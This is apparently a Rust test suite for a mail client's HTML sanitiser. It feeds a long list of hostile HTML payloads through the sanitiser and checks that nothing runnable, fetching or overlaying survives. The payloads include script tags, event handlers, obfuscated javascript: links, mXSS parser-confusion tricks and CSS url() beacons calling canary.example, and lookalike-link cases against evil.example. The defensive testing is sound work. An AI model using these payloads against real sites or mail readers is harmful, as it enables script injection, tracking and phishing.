//! Hostile mail, of our own devising: whatever it tries, what is left is text,
//! plain looks, links that say where they lead, and pictures that were asked for.

use super::*;

/// Each is one way to run something, to fetch something, to lie over something or
/// to be told something. `canary.example` must never be reached by itself.
const HOSTILE: &[&str] = &[
    // Scripts, plain and dressed up.
    "<script>parent.canary()</script>Hello",
    "<ScRiPt src=//canary.example/a.js></sCrIpT>",
    "<script\n>canary()</script\n>",
    "<script/x>canary()</script>",
    "<<script>canary();//<</script>",
    "<scr<script>ipt>canary()</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=canary()>\">",
    "<template><script>canary()</script></template>",
    "<xmp><script>canary()</script></xmp>",
    "<plaintext><script>canary()</script>",
    "<textarea></textarea><script>canary()</script>",
    "<title><img src=x onerror=canary()></title>",
    "<!--><script>canary()</script-->",
    "<!-- --!><script>canary()</script> -->",
    "<![CDATA[<script>canary()</script>]]>",
    "<?xml version=\"1.0\"?><script>canary()</script>",
    // Handlers on elements that are allowed.
    "<img src=x onerror=canary()>",
    "<img src=x onerror\n=\ncanary()>",
    "<img/src=x/onerror=canary()>",
    "<img src=\"x\"onerror=\"canary()\">",
    "<img src='x' ONERROR='canary()'>",
    "<p onclick=canary()>press</p>",
    "<div onmouseover=\"canary()\" style=\"width:9999px;height:9999px\">x</div>",
    "<table onpointerenter=canary()><tr><td onfocus=canary() tabindex=1>x",
    "<b onanimationstart=canary() style=\"animation:x 1s\">x</b>",
    "<p autofocus contenteditable onfocus=canary()>x</p>",
    "<a href=https://fine.example onclick=canary()>x</a>",
    // Addresses that run.
    "<a href=javascript:canary()>x</a>",
    "<a href=\" javascript:canary()\">x</a>",
    "<a href=\"java\tscript:canary()\">x</a>",
    "<a href=\"java\nscript:canary()\">x</a>",
    "<a href=\"&#106;avascript:canary()\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;canary()\">x</a>",
    "<a href=\"\u{1}javascript:canary()\">x</a>",
    "<a href=\"JaVaScRiPt:canary()\">x</a>",
    "<a href=\"vbscript:canary()\">x</a>",
    "<a href=\"data:text/html,<script>canary()</script>\">x</a>",
    "<a href=\"blob:https://canary.example/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"rapport://customer/1\">x</a>",
    "<a href=\"tauri://localhost/\">x</a>",
    "<a href=\"ipc://localhost/call\">x</a>",
    "<a href=\"//canary.example\">x</a>",
    "<a href=\"https:canary\" ping=\"https://canary.example\">x</a>",
    "<a href=\"https://fine.example\" target=_top download>x</a>",
    "<img src=\"javascript:canary()\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=\"data:image/svg+xml,<svg onload=canary()>\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=\"data:image/png;base64,AAAA\" usemap=#m><map name=m><area href=javascript:canary()></map>",
    // Things that fetch.
    "<img src=https://canary.example/pixel.gif>",
    "<img src=http://canary.example/pixel.gif>",
    "<img src=//canary.example/pixel.gif>",
    "<img srcset=\"https://canary.example/a 1x\">",
    "<img lowsrc=https://canary.example/a dynsrc=https://canary.example/b>",
    "<picture><source srcset=https://canary.example/a><img alt=x></picture>",
    "<table background=https://canary.example/a><tr><td background=https://canary.example/b>x",
    "<body background=https://canary.example/a>x</body>",
    "<video poster=https://canary.example/a src=https://canary.example/b></video>",
    "<audio src=https://canary.example/a autoplay></audio>",
    "<link rel=stylesheet href=https://canary.example/a.css>",
    "<link rel=prefetch href=https://canary.example/>",
    "<link rel=dns-prefetch href=//canary.example>",
    "<style>@import 'https://canary.example/a.css'; body{background:url(https://canary.example)}</style>",
    "<p style=\"background:url(https://canary.example/a)\">x</p>",
    "<p style=\"background:u\\72l(https://canary.example/a)\">x</p>",
    "<p style=\"background:URL('https://canary.example/a')\">x</p>",
    "<p style=\"list-style-image:url(https://canary.example/a)\">x</p>",
    "<p style=\"background:image-set('https://canary.example/a' 1x)\">x</p>",
    "<p style=\"content:url(https://canary.example/a)\">x</p>",
    "<p style=\"cursor:url(https://canary.example/a),auto\">x</p>",
    "<p style=\"font-family:x;src:url(https://canary.example/f.woff)\">x</p>",
    "<p style=\"width:expression(canary())\">x</p>",
    "<p style=\"-moz-binding:url(https://canary.example/x.xml)\">x</p>",
    "<p style=\"color:red;/*\">x</p><p style=\"*/background:url(https://canary.example)\">y</p>",
    "<p style='color:red\"};@import url(https://canary.example)'>x</p>",
    // Frames, plug-ins, forms, documents.
    "<iframe src=https://canary.example></iframe>",
    "<iframe srcdoc=\"<script>canary()</script>\"></iframe>",
    "<frameset><frame src=https://canary.example></frameset>",
    "<object data=https://canary.example type=text/html></object>",
    "<embed src=https://canary.example>",
    "<applet code=Canary codebase=https://canary.example></applet>",
    "<portal src=https://canary.example></portal>",
    "<form action=https://canary.example><input name=q autofocus onfocus=canary()><button formaction=javascript:canary()>go</button></form>",
    "<input type=image src=https://canary.example/a>",
    "<isindex action=javascript:canary() type=image>",
    "<meta http-equiv=refresh content=\"0;url=https://canary.example\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=https://canary.example/><a href=x>x</a><img src=y>",
    "<html manifest=https://canary.example/a><body onload=canary()>x",
    "<dialog open><p>Your session has ended</dialog>",
    "<select><option><img src=x onerror=canary()></select>",
    "<marquee onstart=canary() behavior=alternate>x</marquee>",
    "<keygen autofocus onfocus=canary()>",
    "<details open ontoggle=canary()><summary>x</summary></details>",
    // Other languages inside HTML.
    "<svg onload=canary()></svg>",
    "<svg><script>canary()</script></svg>",
    "<svg><a xlink:href=javascript:canary()><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:canary() /></svg>",
    "<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=canary()>#x\"/></svg>",
    "<svg><style><img src=x onerror=canary()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>",
    "<math href=javascript:canary()>x</math>",
    "<math><annotation-xml encoding=text/html><script>canary()</script></annotation-xml></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=canary()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    // Names that could stand in for the window's own, and things that lie over it.
    "<a id=location href=https://fine.example>x</a><p name=body class=toast>x</p>",
    "<p style=\"position:fixed;inset:0;z-index:99999\">Sign in again</p>",
    "<p style=\"margin-top:-9999px;transform:scale(99)\">x</p>",
    "<p is=canary-element slot=x part=y>x</p>",
    "<x-canary onclick=canary()>x</x-canary>",
    // Broken on purpose.
    "<img src=\"x` `<script>canary()</script>\"` `>",
    "<p title=\"--><script>canary()</script>\">x</p>",
    "<p title='\"><script>canary()</script>'>x</p>",
    "<img alt=\"<img src=x onerror=canary()>\" src=x>",
    "<a href='https://fine.example/\"><script>canary()</script>'>x</a>",
    "\u{0}<script\u{0}>canary()</script>",
    "<p style=\"color:red\" style=\"background:url(https://canary.example)\">x</p>",
    "<img src=x src=https://canary.example/a>",
];

/// The attributes that may be left, beside those that only say how it looks.
const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "color",
    "colspan",
    "dir",
    "face",
    "height",
    "href",
    "lang",
    "rel",
    "rowspan",
    "scope",
    "size",
    "span",
    "src",
    "start",
    "style",
    "title",
    "type",
    "valign",
    "value",
    "width",
];

/// Reads what is left as a browser would read our serialiser's words, and names
/// everything that should not be there.
fn complaints(html: &str, images: bool) -> Vec<String> {
    let mut wrong = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        // Values hold `>` only as it is, but never a quote: find the real end.
        let mut quoted = false;
        let end = after
            .char_indices()
            .find(|(_, c)| {
                quoted ^= *c == '"';
                *c == '>' && !quoted
            })
            .map_or(after.len(), |(at, _)| at);
        let tag = after.get(..end).unwrap_or_default();
        rest = after.get(end + 1..).unwrap_or_default();
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| !c.is_whitespace())
            .collect();
        if !TAGS.contains(&name.as_str()) {
            wrong.push(format!("the element {name}"));
        }
        let mut attributes = tag.get(name.len()..).unwrap_or_default();
        while let Some((before, value)) = attributes.split_once("=\"") {
            let (value, behind) = value.split_once('"').unwrap_or((value, ""));
            attributes = behind;
            let attribute = before.trim();
            if !ATTRIBUTES.contains(&attribute) {
                wrong.push(format!("the attribute {attribute}"));
            }
            let starts = |heads: &[&str]| heads.iter().any(|it| value.starts_with(it));
            let fine = match attribute {
                "href" => starts(&["https://", "http://", "mailto:", "tel:"]),
                "src" => {
                    starts(&[
                        "data:image/png;base64,",
                        "data:image/jpeg;base64,",
                        "data:image/gif;base64,",
                        "data:image/webp;base64,",
                    ]) || (images && value.starts_with("https://"))
                }
                "style" => {
                    let low = value.to_lowercase();
                    ![
                        "url",
                        "expression",
                        "position",
                        "@",
                        "\\",
                        "/*",
                        "image-set",
                        "var(",
                    ]
                    .iter()
                    .any(|it| low.contains(it))
                }
                _ => true,
            };
            if !fine {
                wrong.push(format!("{attribute}={value}"));
            }
        }
    }
    wrong
}

fn seen(html: &str) -> MessageView {
    sanitise(html, false, Inline::default())
}

#[test]
fn no_hostile_mail_leaves_anything_that_runs_fetches_or_covers() {
    assert!(HOSTILE.len() >= 60, "{} payloads", HOSTILE.len());
    for payload in HOSTILE {
        for images in [false, true] {
            let view = sanitise(payload, images, Inline::default());
            let wrong = complaints(&view.html, images);
            assert!(
                wrong.is_empty(),
                "{payload}\n  left {}\n  {wrong:?}",
                view.html
            );
        }
    }
}

#[test]
fn hostile_mails_do_not_help_one_another() {
    let all = HOSTILE.concat();
    assert!(complaints(&seen(&all).html, false).is_empty());
    for pair in HOSTILE.windows(2) {
        let html = format!("<div><table><tr><td>{}</td></tr>{}", pair[0], pair[1]);
        let view = seen(&html);
        let wrong = complaints(&view.html, false);
        assert!(
            wrong.is_empty(),
            "{html}\n  left {}\n  {wrong:?}",
            view.html
        );
    }
}

#[test]
fn what_was_made_harmless_stays_as_it_is() {
    for payload in HOSTILE {
        let once = seen(payload).html;
        assert_eq!(seen(&once).html, once, "{payload}");
    }
}

#[test]
fn an_honest_mail_keeps_its_looks() {
    let view = seen(
        "<h2 style=\"color:#336699\">Offer 17</h2><p>Dear <b>Ines</b>,<br>see the table:</p>\
         <table border=1 cellpadding=4><tr><th align=left>Pump</th><td>2 &times; 1,200 &euro;</td>\
         </tr></table><ul><li>fast</li></ul><blockquote>quoted</blockquote>\
         <a href=\"https://oakhollow.example/offer?id=17&amp;lang=de\">the offer</a>",
    );
    assert!(
        view.html
            .contains("<h2 style=\"color: #336699\">Offer 17</h2>")
    );
    assert!(view.html.contains("<th align=\"left\">Pump</th>"));
    assert!(view.html.contains("<blockquote>quoted</blockquote>"));
    assert_eq!(
        view.links,
        [crate::dto::MessageLink {
            text: "the offer".to_owned(),
            host: "oakhollow.example".to_owned(),
            href: "https://oakhollow.example/offer?id=17&lang=de".to_owned(),
            differs: false,
        }]
    );
}

#[test]
fn remote_pictures_wait_until_they_are_asked_for_and_then_come_encrypted() {
    let mail = "<img src=\"https://a.example/1.png\"><img src=\"http://a.example/2.png\">\
                <img src=\"//a.example/3.png\"><img src=\"data:image/png;base64,AAAA\">";
    let closed = seen(mail);
    assert_eq!(closed.blocked_images, 3);
    assert!(!closed.html.contains("a.example"));
    assert!(closed.html.contains("data:image/png;base64,AAAA"));
    let open = sanitise(mail, true, Inline::default());
    assert!(open.html.contains("src=\"https://a.example/1.png\""));
    assert!(!open.html.contains("http://a.example"));
    assert_eq!(
        open.blocked_images, 2,
        "what would come in the clear stays out"
    );
    let named = sanitise(
        "<img src=https://who:pass@a.example/1.png>",
        true,
        Inline::default(),
    );
    assert!(!named.html.contains("pass"), "{}", named.html);
}

#[test]
fn a_picture_of_the_mail_itself_is_shown_when_it_is_one() {
    let png = b"\x89PNG\r\n\x1a\nrest";
    let mut inline = Inline::default();
    inline.add("logo@x", "image/png", png);
    inline.add("fake@x", "image/png", b"<svg onload=canary()>");
    inline.add("page@x", "text/html", png);
    let mail = "<img src=\"cid:logo@x\"><img src=\"CID:logo%40x\"><img src=\"cid:fake@x\">\
                <img src=\"cid:page@x\"><img src=\"cid:gone@x\">";
    assert_eq!(
        named_parts(mail).into_iter().collect::<Vec<_>>(),
        ["fake@x", "gone@x", "logo@x", "page@x"]
    );
    let view = sanitise(mail, false, inline);
    assert_eq!(
        view.html.matches("data:image/png;base64,").count(),
        2,
        "{}",
        view.html
    );
    assert_eq!(view.blocked_images, 0);
    assert!(complaints(&view.html, false).is_empty());
}

#[test]
fn a_link_says_where_it_leads_and_whether_its_text_says_so_too() {
    for (text, href, differs) in [
        (
            "https://bank.example/login",
            "https://evil.example/login",
            true,
        ),
        ("bank.example", "https://evil.example/bank.example", true),
        ("www.bank.example", "https://bank.example/", false),
        (
            "https://bank.example",
            "https://bank.example.evil.example/",
            true,
        ),
        (
            "https://bank.example",
            "https://bank.example@evil.example/",
            true,
        ),
        ("Go to bank.example now", "https://evil.example/", true),
        ("here", "https://evil.example/", false),
        ("report.pdf", "https://files.example/1", false),
        ("ada@bank.example", "mailto:bob@evil.example", true),
        (
            "ada@bank.example",
            "mailto:ada@bank.example?subject=x",
            false,
        ),
        ("https://bаnk.example", "https://bank.example", true),
    ] {
        let view = seen(&format!("<a href=\"{href}\">{text}</a>"));
        assert_eq!(view.links.len(), 1, "{text} {href}");
        assert_eq!(
            view.links[0].differs, differs,
            "{text} -> {:?}",
            view.links[0]
        );
    }
    let odd = seen("<a href=\"https://аррle.example/\">x</a>");
    assert!(odd.links[0].host.starts_with("xn--"), "{:?}", odd.links);
}

#[test]
fn a_text_without_html_is_shown_as_it_is_with_links() {
    let view = from_text("1 < 2 & \"3\"\nsee https://a.example/x?y=1&z=2. <b>no</b> http://");
    assert_eq!(
        view.html,
        "<div style=\"white-space: pre-wrap\">1 &lt; 2 &amp; &quot;3&quot;\nsee \
         <a href=\"https://a.example/x?y=1&amp;z=2\" rel=\"noopener noreferrer nofollow\">\
         https://a.example/x?y=1&amp;z=2</a>. &lt;b&gt;no&lt;/b&gt; http://</div>"
    );
    assert_eq!(view.links.len(), 1);
    for payload in HOSTILE {
        assert!(
            complaints(&from_text(payload).html, false).is_empty(),
            "{payload}"
        );
    }
}

#[test]
fn a_mail_made_to_hold_the_reader_up_is_not_even_parsed() {
    assert!(!is_reasonable(&"<div>".repeat(100_000)));
    assert!(!is_reasonable(
        &("<b>".repeat(20_000) + &"</p><table>".repeat(2_000))
    ));
    assert!(!is_reasonable(&"<a></a>".repeat(200_000)));
    // What old mails do by the thousand costs nothing.
    let old = "<p>x<br>".repeat(5_000) + &"<tr><td>x".repeat(5_000);
    assert!(is_reasonable(&old));
    assert!(complaints(&seen(&old).html, false).is_empty());
    let deep = "<div>".repeat(900) + &"</p>x".repeat(900);
    assert!(is_reasonable(&deep));
    assert!(complaints(&seen(&deep).html, false).is_empty());
    let long = "ä".repeat(5 * 1024 * 1024);
    assert!(seen(&long).html.len() <= LONGEST);
}

proptest::proptest! {
    #[test]
    fn no_soup_of_tags_gets_through(soup in proptest::collection::vec(proptest::sample::select(vec![
        "<", ">", "\"", "'", "=", "/", " ", "script", "img", "svg", "math", "style", "p", "a",
        "table", "td", "src", "href", "onerror", "canary()", "javascript:", "https://x.example",
        "<!--", "-->", "<![CDATA[", "]]>", "&quot;", "&lt;", "\0", "`", "noscript", "title",
        "<p ", "<a href=\"", "<img src=\"", "</", "style=\"", "url(", "mtext", "foreignObject",
    ]), 0..40)) {
        let html = soup.concat();
        let view = seen(&html);
        let wrong = complaints(&view.html, false);
        proptest::prop_assert!(wrong.is_empty(), "{html}\n  left {}\n  {wrong:?}", view.html);
    }
}
